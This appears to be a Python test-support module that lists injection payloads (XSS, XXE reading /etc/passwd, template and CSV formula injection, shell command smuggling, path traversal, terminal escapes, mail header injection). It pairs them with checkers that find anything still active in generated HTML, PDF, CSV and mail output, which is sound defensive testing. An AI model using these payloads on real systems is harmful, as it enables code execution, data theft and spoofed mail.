"""Payloads that try to become active, and judges that say what in an output is active.

Each payload would call ``go()``, ask ``example.com`` for something, read ``/etc/passwd``, write a
file named ``pwned``, run as a formula, steer a terminal or forge a line or a header. A judge
reads an output as its reader would: tags and attributes of a page, actions of a PDF, cells of a
CSV, the signs that reach a terminal. It returns what it finds active, so a test states that it
returns nothing.
"""

import csv
import email
import email.policy
import html.parser
import io
import json
import re

import pikepdf

PAGE = [
    "<script>go()</script>",
    "</title></style></textarea><script>go()</script>",
    '"><img src=x onerror=go()>',
    "' onmouseover='go()' x='",
    '" autofocus onfocus="go()',
    "<svg onload=go()><circle/></svg>",
    "<svg><script>go()</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=go()>",
    '<a href="javascript:go()">x</a>',
    '<a href="JaVaScRiPt&colon;go()">x</a>',
    '<a href="data:text/html,<script>go()</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<iframe srcdoc="<script>go()</script>"></iframe>',
    '<object data="http://example.com/x.swf"></object>',
    '<form action="http://example.com"><button>go</button></form>',
    "<style>@import url(http://example.com/x.css)</style>",
    '<base href="http://example.com/">',
    '<meta http-equiv="refresh" content="0;url=http://example.com">',
    '<div style="background:url(http://example.com/x)">x</div>',
    '<img src="http://example.com/x.png">',
    '<details ontoggle="go()" open>x</details>',
    "<!--<img src=x onerror=go()>--!><img src=x onerror=go()>",
    "]]><script>go()</script>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<noscript><p title='</noscript><img src=x onerror=go()>'>",
    "&lt;script&gt;go()&lt;/script&gt;",
    "\\u003cscript\\u003ego()\\u003c/script\\u003e",
]
MARKUP = [
    "![x](http://example.com/x.png)",
    "[x](javascript:go())",
    "$\\href{javascript:go()}{x}$",
    "\\input{/etc/passwd}\\write18{touch pwned}",
    '#read("/etc/passwd")',
    '#image("http://example.com/x.png")',
    '#eval("go()") #import "@preview/x:1.0.0"',
    "{{ 7*191 }}{% include '/etc/passwd' %}",
    "${7*191}<%= go() %>",
]
FORMULAE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.com/?x="&A1,"x")',
    '=WEBSERVICE("http://example.com/")',
    "+1+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    " =1+1",
]
SYSTEM = [
    "$(touch pwned)`touch pwned`",
    "; touch pwned #",
    "| touch pwned",
    "__import__('os').system('touch pwned')",
    '!!python/object/apply:os.system ["touch pwned"]',
    "../../../../etc/no/passwd",
    "%00../%2e%2e/etc/passwd",
]
CONTROLS = [
    "\x1b[2J\x1b[31m",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://example.com\x1b\\x\x1b]8;;\x1b\\",
    "\x9b31m",
    "x\x08\x08\x08y",
    "\u202e\u2066x\u2069\u200f",
    "\r\nBcc: x@example.com",
    "\n2026-01-01T00:00:00+0000 brief: 9/9 forged",
]
PAYLOADS = PAGE + MARKUP + FORMULAE + SYSTEM + CONTROLS
PRINTABLE = [payload for payload in PAYLOADS if payload.isprintable()]

# Signs that are there as signs and steer nothing.
_LAYOUT = "\n\t"
_RUNS = set("script iframe object embed form link base meta svg video template style".split())


def active_page(page, own=()):
    """Tags and attributes of a page that run, load or submit, but for its `own`.

    One style sheet is its own too. A browser with scripts takes what is in `noscript` for text,
    one without does not; and it ends a comment at ``--!>``.
    """
    page = page.replace("--!>", "-->")
    return _read_page(page, own, ("script", "style")) + _read_page(
        page, own, ("script", "style", "noscript", "iframe", "noembed", "noframes", "xmp")
    )


def _read_page(page, own, raw):
    found, sheets = [], 0

    class Reader(html.parser.HTMLParser):
        CDATA_CONTENT_ELEMENTS = raw

        def handle_starttag(self, tag, attrs):
            nonlocal sheets
            equivalent = (dict(attrs).get("http-equiv") or "").lower()
            sheets += tag == "style"
            ours = tag == "meta" and equivalent in ("", "content-security-policy")
            ours = ours or (tag == "style" and sheets == 1) or self.get_starttag_text() in own
            if tag in _RUNS and not ours:
                found.append(self.get_starttag_text())
            for name, value in attrs:
                if _is_active(tag, name.lower(), value or ""):
                    found.append(f"{tag} {name}={value}")

        def handle_data(self, data):
            if self.cdata_elem == "script" and data in own:
                found.remove("<script>")
            if self.cdata_elem == "style" and re.search(r"@import|url\(\s*['\"]?http|go\(", data):
                found.append(f"style {data}")

    Reader().feed(page)
    return found


def _is_active(tag, name, value):
    address = re.sub(r"[\x00-\x20]", "", value).lower()
    if name.startswith("on") or name in ("srcset", "srcdoc", "formaction", "ping", "background"):
        return True
    if name == "action" or (name == "data" and tag == "object"):
        return True
    if name == "src":
        return not re.match(r"data:image/[a-z+]+;base64,", address)
    if name in ("href", "xlink:href"):
        return bool(re.match(r"(?!https?:|mailto:)[a-z][a-z0-9+.-]*:", address))
    return name == "style" and ("url(" in address or "expression(" in address)


def active_pdf(path, attached):
    """Actions, scripts, outside files and strange attachments of a PDF."""
    found = []
    with pikepdf.open(path) as pdf:
        for thing in pdf.objects:
            if not isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
                continue
            for key in ("/JS", "/AA", "/OpenAction", "/XFA", "/RichMediaContent"):
                if key in thing:
                    found.append(key)
            action = thing.get("/S")
            if action in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"):
                found.append(str(action))
            if "/URI" in thing and not re.match(r"https?://", str(thing["/URI"])):
                found.append(f"/URI {thing['/URI']}")
        found += [f"attached {name}" for name in pdf.attachments if name not in attached]
    return found


def pdf_addresses(path):
    """Every address that a PDF links to."""
    with pikepdf.open(path) as pdf:
        return {
            str(thing["/URI"])
            for thing in pdf.objects
            if isinstance(thing, pikepdf.Dictionary) and "/URI" in thing
        }


def active_csv(text):
    """Cells that a spreadsheet runs."""
    return [
        cell
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
        for cell in row
        if re.match(r"[=+\-@\t\r＝＋－＠]", cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]


def active_json(text):
    """Signs of a JSON file that steer a terminal that it is shown on."""
    json.loads(text)
    return active_terminal(text)


def active_terminal(text, own=()):
    """Signs that steer a terminal or hide or turn what is seen, those that are our own apart."""
    for sequence in own:
        text = text.replace(sequence, "")
    return sorted({sign for sign in text if sign not in _LAYOUT and not sign.isprintable()
                   and sign not in "\u3000\xa0"})  # fmt: skip


HEADERS = {
    "subject", "from", "to", "date", "message-id", "auto-submitted", "mime-version",
    "content-type", "content-transfer-encoding", "content-disposition",
}  # fmt: skip


def active_mail(raw):
    """Headers and parts of a message that we did not mean to send."""
    message = email.message_from_bytes(raw, policy=email.policy.SMTP)
    found = [name for part in message.walk() for name in part.keys() if name.lower() not in HEADERS]
    types = [part.get_content_type() for part in message.walk()]
    if types != ["multipart/mixed", "text/plain", "application/pdf"]:
        found.append(str(types))
    if len(message.get_all("to")) != 1 or len(message["to"].addresses) != 1:
        found.append(str(message.get_all("to")))
    found += [str(name) for name in message.defects]
    names = [part.get_filename() for part in message.iter_attachments()]
    found += [name for name in names if re.search(r"[/\\\x00-\x1f]|\.\.", name)]
    return found + active_terminal(message.get_body().get_content().replace("\r\n", "\n"))
